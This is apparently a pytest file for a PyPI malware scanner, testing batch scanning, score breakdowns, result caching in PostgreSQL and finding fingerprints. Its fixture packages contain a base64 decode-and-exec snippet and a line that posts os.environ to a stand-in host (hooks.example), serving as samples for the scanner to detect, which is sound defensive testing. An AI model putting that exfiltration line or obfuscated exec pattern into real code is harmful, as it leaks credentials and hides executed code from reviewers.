"""Scanning packages in the worker pool: one outcome each, failures recorded, file results cached in PostgreSQL."""

import hashlib

import psycopg

from pypi_platform.lib.postgres import apply_migrations
from pypi_platform.lib.scans.batch import LocalFile, PackageInput, fingerprint, scan_packages
from pypi_platform.lib.scans.findings import Finding
from pypi_platform.lib.scans.state import PostgresResultCache
from pypi_platform_testkit.dists import build_sdist, build_wheel

PAYLOAD = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"


def _package(tmp_path, name, built, packagetype="sdist") -> PackageInput:
    filename, data = built
    path = tmp_path / filename
    path.write_bytes(data)
    local = LocalFile(filename, str(path), hashlib.sha256(data).hexdigest(), len(data), packagetype)
    return PackageInput(name, "1.0", (local,))


def test_every_package_gets_one_record_and_a_broken_one_does_not_stop_the_rest(tmp_path):
    good = _package(tmp_path, "good", build_wheel("good", "1.0"), "wheel")
    bad = _package(tmp_path, "bad", build_sdist("bad", "1.0", modules={"bad/__init__.py": PAYLOAD}))
    gone = PackageInput(
        "gone", "1.0", (LocalFile("gone-1.0.tar.gz", str(tmp_path / "nowhere"), "0" * 64, 1, "sdist"),)
    )
    empty = PackageInput("empty", "1.0", ())
    outcomes = {o.name: o for o in scan_packages([good, bad, gone, empty], workers=2, timeout=60)}
    assert {name: o.status for name, o in outcomes.items()} == {
        "good": "ok",
        "bad": "ok",
        "gone": "error",
        "empty": "no-files",
    }
    assert "FileNotFoundError" in outcomes["gone"].error
    assert outcomes["gone"].record["score"] is None and outcomes["gone"].record["detections"] == []
    [detection] = outcomes["bad"].record["detections"]
    assert (detection["rule"], detection["path"], detection["line"]) == (
        "obfuscation.decode-and-exec",
        "bad-1.0/bad/__init__.py",
        2,
    )
    assert outcomes["bad"].record["score"] > outcomes["good"].record["score"] == 0
    assert outcomes["good"].record["files"][0]["sha256"] == good.files[0].sha256
    assert str(tmp_path) not in repr(outcomes["bad"].record)  # no path of the scanning machine
    assert outcomes["bad"].record["flagged"] is True and outcomes["good"].record["flagged"] is False
    assert outcomes["good"].record["typosquatting"]["checked"] is False  # no popular names were given


def test_a_record_explains_its_score(tmp_path):
    payload = "import os\nimport requests\nrequests.post('https://hooks.example/x', data=dict(os.environ))\n"
    sdist = build_sdist("leaky", "1.0", modules={"leaky/__init__.py": payload, "tests/test_x.py": PAYLOAD})
    [outcome] = scan_packages(
        [_package(tmp_path, "leaky", sdist)], workers=1, timeout=60, top_names=["leaky"]
    )
    record = outcome.record
    parts = record["score_parts"]
    recomputed = sum(part["score"] * part["counts"] for part in parts)
    assert record["score"] == round(min(100.0, recomputed), 1)
    assert parts[0]["path"] == "leaky-1.0/leaky/__init__.py" and parts[0]["counts"] == 1.0
    assert "credentials.environment-dump" in parts[0]["rules"]
    weights = {d["path"]: d["weight"] for d in record["detections"]}
    assert weights == {"leaky-1.0/leaky/__init__.py": 1.0, "leaky-1.0/tests/test_x.py": 0.5}
    assert record["typosquatting"] == {"checked": True, "popular_names": 1, "basis": "1 names given"}


def test_results_are_cached_by_file_sha256_and_ruleset(tmp_path, database):
    apply_migrations(database)
    bad = _package(tmp_path, "bad", build_sdist("bad", "1.0", modules={"bad/__init__.py": PAYLOAD}))
    with psycopg.connect(database) as conn:
        cache = PostgresResultCache(conn)
        [first] = scan_packages([bad], cache=cache)
        (tmp_path / bad.files[0].filename).unlink()  # a second analysis would now fail
        [second] = scan_packages([bad], cache=cache)
        [other_ruleset] = scan_packages([bad], cache=PostgresResultCache(conn, ruleset="next"))
    assert second.status == "ok" and second.record["coverage"]["cached_files"] == 1
    assert second.record["detections"] == first.record["detections"]
    assert other_ruleset.status == "error"  # a new ruleset analyses the file again


def test_fingerprints_ignore_the_release_directory():
    old = Finding.of("exec.dynamic-code", "pkg-1.0/pkg/x.py", line=3, evidence="exec(code)")
    new = Finding.of("exec.dynamic-code", "pkg-1.1/pkg/x.py", line=9, evidence="exec(code)")
    assert fingerprint(old) == fingerprint(new)


def test_a_list_of_packages_starts_largest_first_and_a_stream_keeps_its_order(tmp_path):
    from pypi_platform.lib.scans.batch import _largest_first

    def package(name, *sizes):
        files = tuple(LocalFile(f"{name}-{i}", "", "0" * 64, size, "sdist") for i, size in enumerate(sizes))
        return PackageInput(name, "1.0", files)

    given = [package("small", 10), package("two-files", 60, 50), package("large", 100), package("tie", 10)]
    assert [p.name for p in _largest_first(given)] == ["two-files", "large", "small", "tie"]
    assert [p.name for p in _largest_first(iter(given))] == ["small", "two-files", "large", "tie"]


def test_the_process_that_starts_the_workers_does_not_import_the_rules():
    import subprocess
    import sys

    code = (
        "import sys, pypi_platform.lib.scans.batch\n"
        "assert 'pypi_platform.lib.scans.python_rules' not in sys.modules\n"
        "assert 'pypi_platform.lib.scans.release' not in sys.modules\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True)
